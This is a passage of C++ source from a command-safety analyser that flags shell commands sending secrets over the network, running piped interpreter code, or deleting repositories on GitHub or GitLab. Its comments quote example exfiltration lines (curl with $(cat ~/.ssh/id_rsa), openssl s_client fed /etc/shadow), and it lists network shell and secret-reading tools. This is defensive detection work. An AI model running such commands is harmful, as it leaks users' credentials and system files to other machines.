    const bool broad = k == PathKind::kHome || k == PathKind::kRoot || k == PathKind::kSecret ||
                       k == PathKind::kSystemDir || dir == "~";
    Add(in, "net.listener", broad ? Risk::kHigh : Risk::kModerate,
        broad ? "serves " + dir + " to anyone who can reach this machine" : "serves files over the network");
    return;
  }
  // Interpreter code on standard input: here-documents, here-strings, `<(…)`.
  if (IsCodeInterpreter(n) && !c.stdin_text.empty()) {
    bool script_operand = false;
    for (const auto& w : c.args) script_operand |= !w.text.empty() && w.text[0] != '-';
    if (!script_operand) InterpreterCode(in, c.stdin_text, "from its input");
  }
  if (IsCodeInterpreter(n) || IsShellName(n) || n == "source" || n == ".")
    for (const auto& w : c.args)
      for (int g : w.substitutions)
        for (const auto& other : s.commands)
          if (other.group == g && (other.name == "echo" || other.name == "printf") && !other.args.empty()) {
            std::string text;
            for (const auto& a : other.args)
              if (a.text.empty() || a.text[0] != '-') text += (text.empty() ? "" : " ") + a.text;
            if ((IsShellName(n) || n == "source" || n == ".") && in.code)
              in.code->push_back({text, c.start, c.end});
            else
              InterpreterCode(in, text, "from a process substitution");
          }
}

// Secrets flowing to a program that sends data over the network.
bool IsNetworkSender(const SimpleCommand& c) {
  const std::string& n = c.name;
  if (n == "nc" || n == "ncat" || n == "netcat" || n == "socat" || n == "telnet" || n == "mail" || n == "mailx" ||
      n == "sendmail" || n == "mutt")
    return true;
  if (n == "curl") {
    for (const auto& w : c.args)
      if (Any(w.text, {"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "-T",
                       "--upload-file", "--json"}) ||
          w.text.rfind("--data", 0) == 0 || w.text.find("@-") != std::string::npos)
        return true;
    return false;
  }
  if (n == "wget") return HasArg(c, "--post-file") || HasArg(c, "--body-file");
  if (n == "ssh") return true;
  if (n == "openssl") return HasArg(c, "s_client");
  if (n == "gh")
    return c.args.size() >= 2 && ((c.args[0].text == "gist" && c.args[1].text == "create") ||
                                  (c.args[0].text == "secret" && c.args[1].text == "set"));
  return false;
}

bool ReadsSecret(const SimpleCommand& c) {
  if (c.name == "env" || c.name == "printenv" || c.name == "set" || c.name == "export")
    return c.args.empty() || c.name == "printenv";
  for (const auto& r : c.redirects)
    if (r.op == "<") {
      PathKind k = ClassifyPath(r.target.text, r.target.dynamic, c.cwd).kind;
      if (k == PathKind::kSecret || k == PathKind::kCriticalFile || k == PathKind::kHistory) return true;
    }
  if (c.name == "echo" || c.name == "printf") return false;
  for (const auto& w : c.args) {
    PathKind k = ClassifyPath(w.text, w.dynamic, c.cwd).kind;
    if (k == PathKind::kSecret || k == PathKind::kHistory ||
        (k == PathKind::kCriticalFile &&
         (w.text.find("shadow") != std::string::npos || w.text.find("sudoers") != std::string::npos)))
      return true;
  }
  return false;
}

// The secret file a `$(<FILE)` in `text` reads (bash's shorthand for
// $(cat FILE), with no command to rate), or "" when none does.
std::string SecretReadBySubstitution(const std::string& text, const std::string& cwd) {
  for (size_t at = text.find("$(<"); at != std::string::npos; at = text.find("$(<", at + 3)) {
    size_t b = at + 3;
    while (b < text.size() && text[b] == ' ') ++b;
    const size_t e = text.find(')', b);
    const std::string path = text.substr(b, e == std::string::npos ? std::string::npos : e - b);
    const PathKind k = ClassifyPath(path, false, cwd).kind;
    if (k == PathKind::kSecret || k == PathKind::kHistory || k == PathKind::kCriticalFile) return path;
  }
  return "";
}

void ExfiltrationRules(RuleInput& in) {
  const SimpleCommand& c = in.cmd;
  const ParsedScript& s = in.script;
  bool sends = IsNetworkSender(c);
  const bool network_tool = sends || c.name == "curl" || c.name == "wget" || c.name == "dig" || c.name == "host" ||
                            c.name == "nslookup" || c.name == "ping" || c.name == "http" || c.name == "xh" ||
                            c.name == "drill" || c.name == "getent" || c.name == "traceroute" ||
                            c.name == "resolvectl" || c.name == "ping6" || c.name == "kdig" || c.name == "delv" ||
                            c.name == "whois" || c.name == "git" || c.name == "ssh" || c.name == "ftp" ||
                            c.name == "tftp" || c.name == "lftp" || c.name == "aria2c" || c.name == "fetch";
  // Copies of secrets to another host or a cloud bucket.
  const bool copies_out = c.name == "scp" || c.name == "rsync" || c.name == "sftp" ||
                          ((c.name == "aws" || c.name == "gsutil" || c.name == "rclone") && HasArg(c, "cp"));
  if (!network_tool && !copies_out) return;
  std::string what;
  if ((sends || copies_out) && ReadsSecret(c)) what = "credentials it reads";
  // Words the tool sends: its arguments, and the text it reads from a
  // here-string or here-document (openssl s_client … <<< "$(cat /etc/shadow)").
  std::vector<const Word*> sent;
  for (const auto& w : c.args) sent.push_back(&w);
  for (const auto& r : c.redirects)
    if (r.op == "<<<" || r.op == "<<" || r.op == "<<-") sent.push_back(&r.target);
  for (const Word* w : sent) {  // curl "https://x/?k=$(cat ~/.ssh/id_rsa)"
    for (int g : w->substitutions)
      for (const auto& other : s.commands)
        if (other.group == g && ReadsSecret(other)) what = "credentials read by " + other.name;
    const std::string read = SecretReadBySubstitution(w->text, c.cwd);
    if (!read.empty()) what = "the contents of " + read;
  }
  // Secret-looking variables or identity in the URL, host name or headers.
  for (const auto& w : c.args) {
    if (!w.dynamic || !network_tool) continue;
    for (const char* secret :
         {"TOKEN", "SECRET", "PASSWORD", "PASSWD", "API_KEY", "ACCESS_KEY", "PRIVATE", "CREDENTIAL"})
      if (w.text.find(secret) != std::string::npos) what = "a secret held in " + w.text;
  }
  for (const auto& w : c.args)
    for (int g : w.substitutions)
      for (const auto& other : s.commands)
        if (network_tool && c.name != "curl" && c.name != "wget" && other.group == g &&
            Any(other.name, {"whoami", "id", "hostname", "uname", "env", "printenv", "cat", "base64"}))
          what = "the output of " + other.name + " (in a name looked up over the network)";
  // A variable filled from a secret earlier in the line: k=$(cat ~/.ssh/id_rsa); curl …/$k,
  // read k < ~/.ssh/id_rsa; curl …/$k, mapfile k < …, k=$(<~/.ssh/id_rsa).
  bool secret_var = false;
  for (const auto& other : s.commands) {
    if (&other == &c) continue;
    if (other.group != 0 && other.group != c.group && ReadsSecret(other)) secret_var = true;
    if (Any(other.name, {"read", "mapfile", "readarray"}) && ReadsSecret(other)) secret_var = true;
    for (const auto& a : other.assignments) secret_var |= !SecretReadBySubstitution(a, c.cwd).empty();
  }
  if (secret_var && network_tool)
    for (const auto& w : c.args)
      if (w.dynamic && w.substitutions.empty()) what = "credentials read earlier in the command line";
  if (network_tool && c.pipeline >= 0 && c.pipeline_pos > 0)
    for (const auto& other : s.commands)
      if (other.pipeline == c.pipeline && other.group == c.group && other.pipeline_pos < c.pipeline_pos &&
          ReadsSecret(other))
        what = "credentials or the environment read by " + other.name;
  if (!what.empty()) Add(in, "net.exfiltrate", Risk::kHigh, c.name + " sends " + what + " to another machine");
}

// Deleting things that live on a forge (GitHub, GitLab).
void ForgeRules(RuleInput& in) {
  const SimpleCommand& c = in.cmd;
  if ((c.name != "gh" && c.name != "glab") || c.args.size() < 2) return;
  const std::string& verb = c.args[1].text;
  if (Any(verb, {"delete", "delete-asset", "archive", "transfer"}) || (c.args[0].text == "api" && HasArg(c, "DELETE")))
    Add(in, "forge.delete", Risk::kHigh,
        c.name + " " + c.args[0].text + " " + verb + " deletes it on the server for everyone");
}

}  // namespace cmdai::safety::detail
